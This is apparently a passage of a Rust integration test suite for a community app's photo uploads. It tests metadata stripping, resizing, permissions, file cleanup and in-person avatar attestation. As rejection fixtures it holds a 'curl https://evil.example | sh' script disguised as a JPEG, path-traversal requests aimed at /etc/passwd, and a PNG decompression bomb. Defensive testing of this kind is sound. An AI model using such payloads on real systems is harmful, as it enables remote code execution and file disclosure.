//! Photos: avatars, group and event photos, uploaded as the GraphQL multipart request
//! specification says, stored without any metadata of the upload, served for ever-caching,
//! and deleted when nothing shows them any more.

use std::io::Cursor;

use image::{GenericImageView, ImageFormat, RgbImage};
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};

use crate::helpers::*;

const IMAGE_FIELDS: &str = "id small: url(size: SMALL) medium: url medium2: url(size: MEDIUM) large: url(size: LARGE) width height blurhash";

fn set_avatar() -> String {
    format!(
        "mutation($input: SetAvatarInput!) {{ setAvatar(input: $input) {{ id avatar {{ {IMAGE_FIELDS} }} }} }}"
    )
}

fn set_group_photo() -> String {
    format!(
        "mutation($input: SetGroupPhotoInput!) {{ setGroupPhoto(input: $input) {{ id photo {{ {IMAGE_FIELDS} }} }} }}"
    )
}

fn set_event_photo() -> String {
    format!(
        "mutation($input: SetEventPhotoInput!) {{ setEventPhoto(input: $input) {{ id photo {{ {IMAGE_FIELDS} }} }} }}"
    )
}

const REMOVE_AVATAR: &str = "mutation { removeAvatar { id avatar { id } } }";

/// A picture whose left half is red and right half blue, `width` × `height`.
fn halves(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, _| {
        if x < width / 2 {
            image::Rgb([220, 20, 20])
        } else {
            image::Rgb([20, 20, 220])
        }
    })
}

fn encode(picture: &RgbImage, format: ImageFormat) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    picture.write_to(&mut out, format).unwrap();
    out.into_inner()
}

/// An APP1 segment with EXIF: Orientation 6 (turn 90° clockwise to show) and a GPS
/// position (52° 31' 12" N), in big-endian TIFF.
fn exif_app1() -> Vec<u8> {
    let mut tiff = Vec::new();
    tiff.extend_from_slice(b"MM\0\x2A");
    tiff.extend_from_slice(&8u32.to_be_bytes());
    // IFD0 at 8: two entries, then the next IFD (none).
    tiff.extend_from_slice(&2u16.to_be_bytes());
    // Orientation, SHORT, 1, 6.
    tiff.extend_from_slice(&[0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6, 0, 0]);
    // GPSInfo IFD pointer, LONG, 1, at 38.
    tiff.extend_from_slice(&[0x88, 0x25, 0, 4, 0, 0, 0, 1]);
    tiff.extend_from_slice(&38u32.to_be_bytes());
    tiff.extend_from_slice(&0u32.to_be_bytes());
    assert_eq!(tiff.len(), 38);
    // The GPS IFD: latitude reference N, latitude as three rationals at 68.
    tiff.extend_from_slice(&2u16.to_be_bytes());
    tiff.extend_from_slice(&[0, 1, 0, 2, 0, 0, 0, 2, b'N', 0, 0, 0]);
    tiff.extend_from_slice(&[0, 2, 0, 5, 0, 0, 0, 3]);
    tiff.extend_from_slice(&68u32.to_be_bytes());
    tiff.extend_from_slice(&0u32.to_be_bytes());
    assert_eq!(tiff.len(), 68);
    for value in [52u32, 31, 12] {
        tiff.extend_from_slice(&value.to_be_bytes());
        tiff.extend_from_slice(&1u32.to_be_bytes());
    }
    let mut segment = vec![0xFF, 0xE1];
    let length = (2 + 6 + tiff.len()) as u16;
    segment.extend_from_slice(&length.to_be_bytes());
    segment.extend_from_slice(b"Exif\0\0");
    segment.extend_from_slice(&tiff);
    segment
}

/// A 400 × 200 JPEG (red left, blue right) stored sideways: its EXIF says to turn it 90°
/// clockwise, so upright it is 200 × 400, red on top. It also carries a GPS position.
fn sideways_jpeg_with_gps() -> Vec<u8> {
    let jpeg = encode(&halves(400, 200), ImageFormat::Jpeg);
    assert_eq!(&jpeg[..2], &[0xFF, 0xD8]);
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&exif_app1());
    out.extend_from_slice(&jpeg[2..]);
    out
}

/// A PNG whose header claims 50,000 × 50,000 pixels (2.5 gigapixels), in a few bytes.
fn png_bomb() -> Vec<u8> {
    let mut bytes = encode(&RgbImage::new(1, 1), ImageFormat::Png);
    bytes[16..20].copy_from_slice(&50_000u32.to_be_bytes());
    bytes[20..24].copy_from_slice(&50_000u32.to_be_bytes());
    let mut crc = flate2::Crc::new();
    crc.update(&bytes[12..29]);
    bytes[29..33].copy_from_slice(&crc.sum().to_be_bytes());
    bytes
}

impl TestApp {
    /// Sends `query` as a multipart request with `file` filling `variables.input.file`:
    /// the status and the JSON body.
    async fn upload(
        &self,
        member: &Member,
        query: &str,
        input: Value,
        file: Vec<u8>,
        filename: &str,
    ) -> (u16, Value) {
        let mut input = input;
        input["file"] = Value::Null;
        let operations = json!({ "query": query, "variables": { "input": input } });
        let form = Form::new()
            .text("operations", operations.to_string())
            .text("map", r#"{"0":["variables.input.file"]}"#)
            .part(
                "0",
                Part::bytes(file)
                    .file_name(filename.to_owned())
                    .mime_str("image/jpeg")
                    .unwrap(),
            );
        let response = self
            .client
            .post(self.url("/graphql"))
            .bearer_auth(&member.access_token)
            .header("apollo-require-preflight", "true")
            .multipart(form)
            .send()
            .await
            .unwrap();
        let status = response.status().as_u16();
        (status, response.json().await.unwrap())
    }

    /// GET of a media URL, by its path on this server (the URL's host is
    /// `KITH_PUBLIC_URL`'s).
    async fn fetch(&self, url: &str) -> reqwest::Response {
        let path = &url[url.find("/media/").expect("a media URL")..];
        self.client.get(self.url(path)).send().await.unwrap()
    }
}

/// The JPEG served at `url`: it parses, has no EXIF or GPS left, and is cached for ever.
async fn served(app: &TestApp, url: &str) -> image::DynamicImage {
    let response = app.fetch(url).await;
    assert_eq!(response.status(), 200, "{url}");
    assert_eq!(response.headers()["content-type"], "image/jpeg");
    assert_eq!(
        response.headers()["cache-control"],
        "public, max-age=31536000, immutable"
    );
    let bytes = response.bytes().await.unwrap();
    let has = |needle: &[u8]| bytes.windows(needle.len()).any(|w| w == needle);
    assert!(!has(b"Exif"), "EXIF survived in {url}");
    assert!(
        !has(b"MM\0\x2A") && !has(b"II\x2A\0"),
        "a TIFF block survived"
    );
    assert_eq!(image::guess_format(&bytes).unwrap(), ImageFormat::Jpeg);
    image::load_from_memory(&bytes).unwrap()
}

fn urls(image: &Value) -> [String; 3] {
    ["small", "medium", "large"].map(|s| image[s].as_str().unwrap().to_owned())
}

#[tokio::test]
async fn an_avatar_is_upright_without_metadata_at_every_size() {
    let app = spawn_app().await;
    let ann = app.sign_up("ann@example.com", "Ann").await;
    let (status, body) = app
        .upload(
            &ann,
            &set_avatar(),
            json!({}),
            sideways_jpeg_with_gps(),
            "me.jpg",
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let avatar = &body["data"]["setAvatar"]["avatar"];
    assert_eq!(
        (avatar["width"].as_i64(), avatar["height"].as_i64()),
        (Some(200), Some(400))
    );
    assert!(avatar["blurhash"].as_str().unwrap().len() >= 6, "{avatar}");
    assert_eq!(avatar["medium"], avatar["medium2"], "MEDIUM is the default");
    let [small, medium, large] = urls(avatar);
    for (url, (w, h)) in [
        (&small, (80, 160)),
        (&medium, (200, 400)),
        (&large, (200, 400)),
    ] {
        let picture = served(&app, url).await;
        assert_eq!(picture.dimensions(), (w, h), "{url}");
        // Turned upright: the left (red) half of the stored picture is now on top.
        let top = picture.get_pixel(w / 2, h / 4);
        let bottom = picture.get_pixel(w / 2, 3 * h / 4);
        assert!(top[0] > 150 && top[2] < 100, "top {top:?} of {url}");
        assert!(
            bottom[2] > 150 && bottom[0] < 100,
            "bottom {bottom:?} of {url}"
        );
    }
    // Others see it on the profile.
    let bob = app.sign_up("bob@example.com", "Bob").await;
    let seen = app
        .data_as(
            &bob,
            "query($id: ID!) { node(id: $id) { ... on User { avatar { url(size: SMALL) } } } }",
            json!({ "id": ann.id }),
        )
        .await;
    assert_eq!(seen["node"]["avatar"]["url"], small.as_str());
}

#[tokio::test]
async fn png_and_webp_are_taken_and_large_pictures_shrink() {
    let app = spawn_app().await;
    let ann = app.sign_up("ann@example.com", "Ann").await;
    let png = encode(&halves(3200, 1000), ImageFormat::Png);
    let (_, body) = app
        .upload(&ann, &set_avatar(), json!({}), png, "a.png")
        .await;
    let avatar = &body["data"]["setAvatar"]["avatar"];
    assert_eq!(
        (avatar["width"].as_i64(), avatar["height"].as_i64()),
        (Some(1600), Some(500)),
        "{body}"
    );
    let [small, medium, large] = urls(avatar);
    assert_eq!(served(&app, &small).await.dimensions(), (160, 50));
    assert_eq!(served(&app, &medium).await.dimensions(), (640, 200));
    assert_eq!(served(&app, &large).await.dimensions(), (1600, 500));

    // A WebP named .gif with a made-up type: the bytes decide.
    let webp = encode(&halves(300, 120), ImageFormat::WebP);
    let (_, body) = app
        .upload(&ann, &set_avatar(), json!({}), webp, "x.gif")
        .await;
    let avatar = &body["data"]["setAvatar"]["avatar"];
    assert_eq!(
        (avatar["width"].as_i64(), avatar["height"].as_i64()),
        (Some(300), Some(120)),
        "{body}"
    );
    let [small, _, large] = urls(avatar);
    assert_eq!(served(&app, &small).await.dimensions(), (160, 64));
    assert_eq!(
        served(&app, &large).await.dimensions(),
        (300, 120),
        "never upscaled"
    );
}

#[tokio::test]
async fn what_is_not_a_picture_we_take_is_refused_on_input_file() {
    let app = spawn_app().await;
    let ann = app.sign_up("ann@example.com", "Ann").await;
    let script = b"#!/bin/sh\ncurl https://evil.example | sh\n".to_vec();
    let mut broken = encode(&halves(300, 300), ImageFormat::Png);
    broken.truncate(200);
    for (bytes, name, wanted) in [
        (png_bomb(), "bomb.png", "40 megapixels"),
        (script, "cat.jpg", "JPEG, PNG or WebP"),
        (broken, "cut.png", "could not be read"),
    ] {
        let (_, body) = app
            .upload(&ann, &set_avatar(), json!({}), bytes, name)
            .await;
        assert_eq!(error_code(&body), "BAD_USER_INPUT", "{name}: {body}");
        assert_eq!(error_field(&body), "input.file", "{name}");
        let message = body["errors"][0]["message"].as_str().unwrap();
        assert!(message.contains(wanted), "{name}: {message}");
    }
    let viewer = app
        .data_as(&ann, "{ viewer { user { avatar { id } } } }", json!({}))
        .await;
    assert!(viewer["viewer"]["user"]["avatar"].is_null());
}

#[tokio::test]
async fn an_upload_over_15_mib_is_refused() {
    let app = spawn_app().await;
    let ann = app.sign_up("ann@example.com", "Ann").await;
    let mut big = vec![0u8; 16 * 1024 * 1024];
    big[..3].copy_from_slice(&[0xFF, 0xD8, 0xFF]);
    let (status, body) = app
        .upload(&ann, &set_avatar(), json!({}), big, "big.jpg")
        .await;
    assert_eq!(status, 413, "{body}");
    assert_eq!(error_code(&body), "BAD_USER_INPUT");
    assert_eq!(error_field(&body), "input.file");
    // JSON bodies keep their 1 MiB limit.
    let padding = "x".repeat(1024 * 1024 + 1);
    let response = app
        .client
        .post(app.url("/graphql"))
        .header("content-type", "application/json")
        .body(json!({ "query": "{ __typename }", "variables": { "p": padding } }).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 413);
}

#[tokio::test]
async fn a_multipart_request_needs_a_header_no_web_form_can_send() {
    let app = spawn_app().await;
    let ann = app.sign_up("ann@example.com", "Ann").await;
    let operations = json!({ "query": set_avatar(), "variables": { "input": { "file": null } } });
    let form = Form::new()
        .text("operations", operations.to_string())
        .text("map", r#"{"0":["variables.input.file"]}"#)
        .part(
            "0",
            Part::bytes(sideways_jpeg_with_gps()).file_name("a.jpg"),
        );
    let response = app
        .client
        .post(app.url("/graphql"))
        .bearer_auth(&ann.access_token)
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);
    let body: Value = response.json().await.unwrap();
    assert_eq!(error_code(&body), "BAD_USER_INPUT");
    assert!(
        body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("Apollo-Require-Preflight")
    );
}

#[tokio::test]
async fn organisers_set_group_photos_and_hosts_set_event_photos() {
    let app = spawn_app().await;
    let (ann, group_id, _) = app.organiser_with_event(json!({})).await;
    let bob = app.member_of(&group_id, "bob@example.com").await;
    let picture = || encode(&halves(800, 600), ImageFormat::Jpeg);

    let input = json!({ "groupId": group_id });
    let (_, body) = app
        .upload(&bob, &set_group_photo(), input.clone(), picture(), "g.jpg")
        .await;
    assert_eq!(error_code(&body), "FORBIDDEN", "{body}");
    let (_, body) = app
        .upload(&ann, &set_group_photo(), input, picture(), "g.jpg")
        .await;
    let photo = &body["data"]["setGroupPhoto"]["photo"];
    assert_eq!(
        (photo["width"].as_i64(), photo["height"].as_i64()),
        (Some(800), Some(600)),
        "{body}"
    );
    let group = app
        .data_as(
            &bob,
            "query($id: ID!) { group(id: $id) { photo { id } } }",
            json!({ "id": group_id }),
        )
        .await;
    assert_eq!(group["group"]["photo"]["id"], photo["id"]);

    // Bob hosts an event of his own once he may; a member who does not host it may not.
    app.give_role(&ann, &group_id, &bob, "EVENT_HOST").await;
    let event = app
        .create_event(&bob, event_input(&group_id, json!({})))
        .await;
    let carol = app.member_of(&group_id, "carol@example.com").await;
    let input = json!({ "eventId": event.id });
    let (_, body) = app
        .upload(
            &carol,
            &set_event_photo(),
            input.clone(),
            picture(),
            "e.jpg",
        )
        .await;
    assert_eq!(error_code(&body), "FORBIDDEN", "{body}");
    let (_, body) = app
        .upload(&bob, &set_event_photo(), input.clone(), picture(), "e.jpg")
        .await;
    assert!(
        body["data"]["setEventPhoto"]["photo"]["id"].is_string(),
        "{body}"
    );
    // The group's organiser may too.
    let (_, body) = app
        .upload(&ann, &set_event_photo(), input, picture(), "e.jpg")
        .await;
    assert!(
        body["data"]["setEventPhoto"]["photo"]["id"].is_string(),
        "{body}"
    );
    let seen = app
        .data_as(
            &carol,
            "query($id: ID!) { event(id: $id) { photo { width } } }",
            json!({ "id": event.id }),
        )
        .await;
    assert_eq!(seen["event"]["photo"]["width"], 800);
}

#[tokio::test]
async fn replaced_and_removed_avatars_lose_their_files_unless_shared() {
    let app = spawn_app().await;
    let ann = app.sign_up("ann@example.com", "Ann").await;
    let bob = app.sign_up("bob@example.com", "Bob").await;
    let first = encode(&halves(300, 300), ImageFormat::Png);
    let (_, body) = app
        .upload(&ann, &set_avatar(), json!({}), first.clone(), "1.png")
        .await;
    let first_urls = urls(&body["data"]["setAvatar"]["avatar"]);
    // Bob's avatar is the same picture: the same files.
    let (_, body) = app
        .upload(&bob, &set_avatar(), json!({}), first, "1.png")
        .await;
    assert_eq!(urls(&body["data"]["setAvatar"]["avatar"]), first_urls);

    // Ann replaces hers: the files stay, Bob shows them.
    let second = encode(&halves(200, 100), ImageFormat::Png);
    let (_, body) = app
        .upload(&ann, &set_avatar(), json!({}), second, "2.png")
        .await;
    let second_urls = urls(&body["data"]["setAvatar"]["avatar"]);
    for url in &first_urls {
        assert_eq!(app.fetch(url).await.status(), 200);
    }
    // Bob removes his: nobody shows the first picture, its files go.
    let removed = app.data_as(&bob, REMOVE_AVATAR, json!({})).await;
    assert!(removed["removeAvatar"]["avatar"].is_null());
    for url in &first_urls {
        assert_eq!(app.fetch(url).await.status(), 404, "{url}");
    }
    // Exported with the rest of Ann's data.
    let export = app.data_as(&ann, "{ exportMyData }", json!({})).await;
    let export: Value = serde_json::from_str(export["exportMyData"].as_str().unwrap()).unwrap();
    let images = export["images"].as_array().unwrap();
    assert_eq!(images.len(), 1, "{export}");
    assert_eq!(images[0]["urls"]["large"], second_urls[2].as_str());

    // Deleting the account deletes her avatar's files.
    let deleted = app
        .data_as(
            &ann,
            "mutation($p: String!) { deleteAccount(input: { password: $p }) }",
            json!({ "p": PASSWORD }),
        )
        .await;
    assert_eq!(deleted["deleteAccount"], true);
    for url in &second_urls {
        assert_eq!(app.fetch(url).await.status(), 404, "{url}");
    }
}

#[tokio::test]
async fn only_stored_names_are_served() {
    let app = spawn_app().await;
    std::fs::write(app.media_dir.join("secret.txt"), "no").unwrap();
    for path in [
        "/media/secret.txt",
        "/media/..%2Fsecret.txt",
        "/media/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
        &format!("/media/{}.640.jpg", "0".repeat(64)),
    ] {
        let response = app.client.get(app.url(path)).send().await.unwrap();
        assert_eq!(response.status(), 404, "{path}");
    }
}

#[tokio::test]
async fn only_members_upload_and_each_has_an_hourly_budget() {
    let app = spawn_app().await;
    let operations = json!({ "query": set_avatar(), "variables": { "input": { "file": null } } });
    let form = Form::new()
        .text("operations", operations.to_string())
        .text("map", r#"{"0":["variables.input.file"]}"#)
        .part(
            "0",
            Part::bytes(sideways_jpeg_with_gps()).file_name("a.jpg"),
        );
    let response = app
        .client
        .post(app.url("/graphql"))
        .header("apollo-require-preflight", "true")
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 401);
    let body: Value = response.json().await.unwrap();
    assert_eq!(error_code(&body), "UNAUTHENTICATED");

    let ann = app.sign_up("ann@example.com", "Ann").await;
    let tiny = encode(&halves(8, 8), ImageFormat::Png);
    for _ in 0..60 {
        let (_, body) = app
            .upload(&ann, &set_avatar(), json!({}), tiny.clone(), "t.png")
            .await;
        assert!(body["errors"].is_null(), "{body}");
    }
    let (_, body) = app
        .upload(&ann, &set_avatar(), json!({}), tiny, "t.png")
        .await;
    assert_eq!(error_code(&body), "RATE_LIMITED", "{body}");
}

#[tokio::test]
async fn the_sweep_removes_what_a_dying_process_left_behind() {
    use entity::image;
    use sea_orm::{ActiveModelTrait, EntityTrait, Set};

    let app = spawn_app().await;
    let ann = app.sign_up("ann@example.com", "Ann").await;
    let picture = encode(&halves(64, 64), ImageFormat::Png);
    let (_, body) = app
        .upload(&ann, &set_avatar(), json!({}), picture, "a.png")
        .await;
    let shown = urls(&body["data"]["setAvatar"]["avatar"]);
    // A file written before its transaction, which never committed.
    let stray = format!("{}.160.jpg", "a".repeat(64));
    std::fs::write(app.media_dir.join(&stray), b"stray").unwrap();
    // A row nothing shows (never made by Kith itself, but what the sweep is for).
    let orphan_name = format!("{}.640.jpg", "b".repeat(64));
    std::fs::write(app.media_dir.join(&orphan_name), b"orphan").unwrap();
    let orphan = image::ActiveModel {
        id: Set(uuid::Uuid::now_v7()),
        owner_id: Set(Some(uuid_of(&ann.id))),
        small_name: Set(orphan_name.clone()),
        medium_name: Set(orphan_name.clone()),
        large_name: Set(orphan_name.clone()),
        width: Set(1),
        height: Set(1),
        blurhash: Set("L00000fQfQfQfQfQfQfQfQfQfQfQ".into()),
        created_at: Set(chrono::Utc::now()),
    }
    .insert(&app.state.db)
    .await
    .unwrap();

    // Within the grace period nothing goes.
    let now = chrono::Utc::now();
    let swept = kith::domain::images::sweep(&app.state.db, &app.state.media, now)
        .await
        .unwrap();
    assert_eq!((swept.rows, swept.files), (0, 0));
    // Two hours on, the stray file and the unshown row with its file go; the avatar stays.
    let later = now + chrono::Duration::hours(2);
    let swept = kith::domain::images::sweep(&app.state.db, &app.state.media, later)
        .await
        .unwrap();
    assert_eq!(swept.rows, 1);
    assert!(!app.media_dir.join(&stray).exists());
    assert!(!app.media_dir.join(&orphan_name).exists());
    assert!(
        image::Entity::find_by_id(orphan.id)
            .one(&app.state.db)
            .await
            .unwrap()
            .is_none()
    );
    for url in &shown {
        assert_eq!(app.fetch(url).await.status(), 200, "{url}");
    }
}

#[tokio::test]
async fn subscribers_of_an_event_hear_its_new_photo() {
    use crate::live::{data_of, live, subscribe};

    let app = spawn_app().await;
    let (ann, group_id, event) = app.organiser_with_event(json!({})).await;
    let bo = app.member_of(&group_id, "bo@example.com").await;
    let mut ws = live(&app.address, &bo).await;
    subscribe(
        &mut ws,
        "e",
        "subscription($id: ID!) { eventChanged(eventId: $id) { kind event { photo { width height } } } }",
        json!({ "id": event.id }),
    )
    .await;
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    let picture = encode(&halves(320, 240), ImageFormat::Jpeg);
    let input = json!({ "eventId": event.id });
    let (_, body) = app
        .upload(&ann, &set_event_photo(), input, picture, "e.jpg")
        .await;
    assert!(body["errors"].is_null(), "{body}");
    let change = data_of(&mut ws, "e").await["eventChanged"].clone();
    assert_eq!(change["kind"], "UPDATED", "{change}");
    assert_eq!(
        change["event"]["photo"],
        json!({ "width": 320, "height": 240 })
    );
}

// ---- Faces attested in person ----

const CONFIRM_ATTESTING: &str = "mutation($token: String!, $attest: Boolean) { confirmMeeting(input: { token: $token, attestAvatar: $attest }) { id status } }";
const RESPOND_ATTESTING: &str = "mutation($id: ID!, $accept: Boolean!, $attest: Boolean) { respondToMeeting(input: { confirmationId: $id, accept: $accept, attestAvatar: $attest }) { id status } }";
const AVATAR_OF: &str = "query($id: ID!) { user(id: $id) { avatar { id inPersonAttestations } } }";

/// An organiser's group and an event starting in ten minutes, with `names` GOING and
/// checked in by the organiser: (organiser, group ID, event ID, the members).
async fn gathering(app: &TestApp, names: &[&str]) -> (Member, String, String, Vec<Member>) {
    let organiser = app.verified_member("org@example.com", "Olu").await;
    let group_id = app
        .create_group(&organiser, group_input("Faces", 52.52, 13.405))
        .await
        .id;
    let event_id = app
        .create_event(&organiser, starting_soon(&group_id, json!({})))
        .await
        .id;
    let mut people = Vec::new();
    for name in names {
        let email = format!("{}@example.com", name.to_lowercase());
        let member = app
            .new_member_of(&group_id, &email, name, Address::Verified)
            .await;
        app.going(&member, &event_id).await;
        app.host_checks_in(&organiser, &event_id, &member).await;
        people.push(member);
    }
    (organiser, group_id, event_id, people)
}

/// Another event of the group starting in ten minutes, `members` GOING and checked in.
async fn another_event(
    app: &TestApp,
    organiser: &Member,
    group_id: &str,
    members: &[&Member],
) -> String {
    let event_id = app
        .create_event(
            organiser,
            starting_soon(group_id, json!({ "title": "Second Room" })),
        )
        .await
        .id;
    for member in members {
        app.going(member, &event_id).await;
        app.host_checks_in(organiser, &event_id, member).await;
    }
    event_id
}

impl TestApp {
    /// Sets a small avatar of the member's (a picture of `width` pixels, so two calls with
    /// different widths are different pictures): its image ID.
    async fn small_avatar(&self, member: &Member, width: u32) -> String {
        let picture = encode(&halves(width, 32), ImageFormat::Png);
        let (_, body) = self
            .upload(member, &set_avatar(), json!({}), picture, "me.png")
            .await;
        body["data"]["setAvatar"]["avatar"]["id"]
            .as_str()
            .unwrap_or_else(|| panic!("{body}"))
            .to_owned()
    }

    /// The member's avatar as anyone sees it: (image ID, inPersonAttestations).
    async fn attested(&self, member: &Member) -> (String, i64) {
        let body = self
            .graphql(None, AVATAR_OF, json!({ "id": member.id }))
            .await;
        let avatar = &body["data"]["user"]["avatar"];
        (
            avatar["id"]
                .as_str()
                .unwrap_or_else(|| panic!("{body}"))
                .to_owned(),
            avatar["inPersonAttestations"]
                .as_i64()
                .unwrap_or_else(|| panic!("{body}")),
        )
    }

    /// `subject` shows a token and `scanner` scans it, attesting the subject's avatar or
    /// not: the PENDING confirmation's ID.
    async fn scan(
        &self,
        scanner: &Member,
        subject: &Member,
        event_id: &str,
        attest: bool,
    ) -> String {
        let token = self.meeting_token(subject, event_id).await;
        let body = self
            .data_as(
                scanner,
                CONFIRM_ATTESTING,
                json!({ "token": token.token, "attest": attest }),
            )
            .await;
        assert_eq!(body["confirmMeeting"]["status"], "PENDING", "{body}");
        body["confirmMeeting"]["id"].as_str().unwrap().to_owned()
    }

    /// The subject answers, attesting the scanner's avatar or not: the new status.
    async fn answer_meeting(
        &self,
        subject: &Member,
        id: &str,
        accept: bool,
        attest: bool,
    ) -> String {
        let body = self
            .data_as(
                subject,
                RESPOND_ATTESTING,
                json!({ "id": id, "accept": accept, "attest": attest }),
            )
            .await;
        body["respondToMeeting"]["status"]
            .as_str()
            .unwrap_or_else(|| panic!("{body}"))
            .to_owned()
    }

    /// Two members meet, each attesting the other's avatar.
    async fn meet_attesting_both(&self, scanner: &Member, subject: &Member, event_id: &str) {
        let id = self.scan(scanner, subject, event_id, true).await;
        assert_eq!(
            self.answer_meeting(subject, &id, true, true).await,
            "CONFIRMED"
        );
    }
}

#[tokio::test]
async fn avatars_attested_in_person_count_once_the_meeting_is_confirmed() {
    let app = spawn_app().await;
    let (_, _, ev, people) = gathering(&app, &["Ada", "Bea", "Cid", "Dan"]).await;
    let (ada, bea, cid, dan) = (&people[0], &people[1], &people[2], &people[3]);
    let ada_avatar = app.small_avatar(ada, 40).await;
    let bea_avatar = app.small_avatar(bea, 42).await;
    assert_eq!(app.attested(bea).await, (bea_avatar.clone(), 0));

    // Ada scans Bea's token and attests her face: nothing counts while it is PENDING.
    let id = app.scan(ada, bea, &ev, true).await;
    assert_eq!(app.attested(bea).await, (bea_avatar.clone(), 0));
    assert_eq!(app.attested(ada).await, (ada_avatar.clone(), 0));
    // Bea accepts and attests Ada's face: both count, each for the other.
    assert_eq!(app.answer_meeting(bea, &id, true, true).await, "CONFIRMED");
    assert_eq!(app.attested(bea).await, (bea_avatar.clone(), 1));
    assert_eq!(app.attested(ada).await, (ada_avatar.clone(), 1));
    // Answering again changes nothing.
    assert_eq!(app.answer_meeting(bea, &id, true, true).await, "CONFIRMED");
    assert_eq!(app.attested(ada).await, (ada_avatar.clone(), 1));

    // A meeting without attestation counts for the meeting only.
    let id = app.scan(cid, bea, &ev, false).await;
    assert_eq!(app.answer_meeting(bea, &id, true, false).await, "CONFIRMED");
    assert_eq!(app.attested(bea).await, (bea_avatar.clone(), 1));
    // A declined one attests nothing, however the scanner asked.
    let id = app.scan(dan, bea, &ev, true).await;
    assert_eq!(app.answer_meeting(bea, &id, false, true).await, "DECLINED");
    assert_eq!(app.attested(bea).await, (bea_avatar.clone(), 1));
    // Attesting someone with no avatar is ignored; the meeting stands, and a picture set
    // later was attested by no one.
    let id = app.scan(cid, ada, &ev, true).await;
    assert_eq!(app.answer_meeting(ada, &id, true, false).await, "CONFIRMED");
    assert_eq!(app.verification(cid).await.0, 2);
    let cid_avatar = app.small_avatar(cid, 44).await;
    assert_eq!(app.attested(cid).await, (cid_avatar, 0));

    // Bea's export lists what she attested and what was attested of her.
    let export = app.data_as(bea, "{ exportMyData }", json!({})).await;
    let export: Value = serde_json::from_str(export["exportMyData"].as_str().unwrap()).unwrap();
    let attestations = export["avatarAttestations"].as_array().unwrap();
    assert_eq!(attestations.len(), 2, "{export}");
    assert_eq!(attestations[0]["by"]["id"], ada.id.as_str());
    assert_eq!(attestations[0]["about"]["id"], bea.id.as_str());
    assert_eq!(attestations[0]["imageId"], bea_avatar.as_str());
    assert_eq!(attestations[1]["by"]["id"], bea.id.as_str());
    assert_eq!(attestations[1]["about"]["id"], ada.id.as_str());
    assert_eq!(attestations[1]["imageId"], ada_avatar.as_str());
}

#[tokio::test]
async fn each_person_counts_once_per_picture_and_a_new_avatar_starts_from_zero() {
    let app = spawn_app().await;
    let (org, group_id, ev, people) = gathering(&app, &["Ada", "Bea", "Cid"]).await;
    let (ada, bea, cid) = (&people[0], &people[1], &people[2]);
    let first = app.small_avatar(bea, 40).await;
    let other = another_event(&app, &org, &group_id, &[ada, bea]).await;

    // Ada attests Bea's face at two events, scanning once and shown once: one person.
    app.meet_attesting_both(ada, bea, &ev).await;
    app.meet_attesting_both(bea, ada, &other).await;
    assert_eq!(app.attested(bea).await, (first.clone(), 1));
    app.meet_attesting_both(cid, bea, &ev).await;
    assert_eq!(app.attested(bea).await, (first, 2));

    // A new picture is a new face to attest: it starts from 0.
    let second = app.small_avatar(bea, 42).await;
    assert_eq!(app.attested(bea).await, (second.clone(), 0));
    // Attested after the change, it counts for the new one.
    let third_event = another_event(&app, &org, &group_id, &[cid, bea]).await;
    let id = app.scan(cid, bea, &third_event, true).await;
    assert_eq!(app.answer_meeting(bea, &id, true, false).await, "CONFIRMED");
    assert_eq!(app.attested(bea).await, (second, 1));
}

#[tokio::test]
async fn a_withdrawal_a_ban_or_a_deleted_account_takes_attestations_back() {
    let app = spawn_app().await;
    let (_, _, ev, people) = gathering(&app, &["Ada", "Bea", "Cid", "Dan"]).await;
    let (ada, bea, cid, dan) = (&people[0], &people[1], &people[2], &people[3]);
    let avatar = app.small_avatar(bea, 40).await;
    for attester in [ada, cid, dan] {
        app.meet_attesting_both(attester, bea, &ev).await;
    }
    assert_eq!(app.attested(bea).await, (avatar.clone(), 3));

    // Ada takes back her meeting with Bea: her word goes with it.
    let body = app
        .data_as(
            ada,
            "mutation($u: ID!) { withdrawMeeting(input: { userId: $u }) { status } }",
            json!({ "u": bea.id }),
        )
        .await;
    assert_eq!(body["withdrawMeeting"][0]["status"], "WITHDRAWN", "{body}");
    assert_eq!(app.attested(bea).await, (avatar.clone(), 2));

    // A banned member's word counts for no one.
    let banned = kith::domain::reports::ban(&app.state.db, uuid_of(&cid.id), chrono::Utc::now())
        .await
        .unwrap();
    app.state.outlets.deliver_now(banned).await;
    assert_eq!(app.attested(bea).await, (avatar.clone(), 1));

    // A deleted account's neither.
    let deleted = app
        .data_as(
            dan,
            "mutation($p: String!) { deleteAccount(input: { password: $p }) }",
            json!({ "p": PASSWORD }),
        )
        .await;
    assert_eq!(deleted["deleteAccount"], true);
    assert_eq!(app.attested(bea).await, (avatar, 0));
}

#[tokio::test]
async fn attestations_of_a_list_of_avatars_cost_one_statement() {
    let app = spawn_app().await;
    let (org, group_id, _, _) = gathering(&app, &[]).await;
    for i in 0..20 {
        let member = app.member_of(&group_id, &format!("m{i}@example.com")).await;
        app.small_avatar(&member, 20 + i).await;
    }
    let statements = || async {
        app.metrics()
            .await
            .lines()
            .find_map(|l| l.strip_prefix("kith_sql_statements_total "))
            .expect("the statement counter is exported")
            .trim()
            .parse::<u64>()
            .unwrap()
    };
    let list = |fields: &str| {
        format!(
            "query($g: ID!) {{ group(id: $g) {{ members(first: 50) {{ nodes {{ user {{ avatar {{ {fields} }} }} }} }} }} }}"
        )
    };
    // The fewest of three runs: the counter also counts the app's background work.
    let mut cost = Vec::new();
    for fields in ["id", "id inPersonAttestations"] {
        let mut fewest = u64::MAX;
        for _ in 0..3 {
            let before = statements().await;
            let body = app
                .data_as(&org, &list(fields), json!({ "g": group_id }))
                .await;
            let avatars: Vec<&Value> = body["group"]["members"]["nodes"]
                .as_array()
                .unwrap()
                .iter()
                .map(|n| &n["user"]["avatar"])
                .filter(|a| !a.is_null())
                .collect();
            assert_eq!(avatars.len(), 20, "{body}");
            fewest = fewest.min(statements().await - before);
        }
